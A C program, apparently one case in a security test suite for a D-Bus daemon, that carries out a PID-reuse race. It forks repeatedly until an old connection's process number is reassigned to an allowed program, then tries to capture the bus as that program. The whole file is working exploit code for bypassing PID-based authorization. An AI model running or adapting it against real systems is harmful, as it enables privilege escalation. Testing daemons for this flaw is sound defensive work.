/* A connection of a process that has ended, whose number an allowed program was given since.

   pid-reuse known|unknown COMMAND...: COMMAND is the allowed program, and has to stay; the daemon knows the connection by a
   call of before, or does not. Forks until the number comes round: the machine should have few of them
   (/proc/sys/kernel/pid_max). */
#include "attack.h"
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int count, char **words) {
    int pair[2];
    if (count < 3) return not_tried;
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) < 0) give_up("socketpair");
    pid_t maker;
    // The first 300 numbers are given out once only.
    do {
        if ((maker = fork()) < 0) give_up("fork");
        if (maker == 0 && getpid() <= 300) _exit(0);
        if (maker > 0 && maker <= 300 && waitpid(maker, NULL, 0) != maker) give_up("waitpid");
    } while (maker > 0 && maker <= 300);
    if (maker == 0) {
        char word;
        send_descriptor(pair[1], connect_socket());
        _exit(read(pair[1], &word, 1) != 1);
    }
    int end = receive_descriptor(pair[0]);
    // Hello at once: the bus waits some seconds for it.
    sd_bus *bus = speak(end);
    const char *name;
    if (sd_bus_get_unique_name(bus, &name) < 0) give_up("hello");
    if (!strcmp(words[1], "known") && !gets(bus, ROOT, SERVICE ".Authorization", "WhoAmI", NULL, "")) return not_tried;
    if (write(pair[0], "", 1) != 1) give_up("write");
    if (waitpid(maker, NULL, 0) != maker) give_up("waitpid");
    for (int turn = 0; turn < 200000; turn++) {
        pid_t next = fork();
        if (next < 0) give_up("fork");
        if (next == 0) {
            if (getpid() != maker) _exit(0);
            prctl(PR_SET_PDEATHSIG, SIGTERM);
            become(words + 2);
        }
        if (next == maker) {
            wait_until_it_runs_another(maker);
            printf("%s is %d, which is another process now, after %d\n", name, maker, turn);
            int came = capture(bus);
            kill(maker, SIGKILL);
            return came;
        }
        if (waitpid(next, NULL, 0) != next) give_up("waitpid");
    }
    errno = ETIMEDOUT;
    give_up("the number did not come round");
}
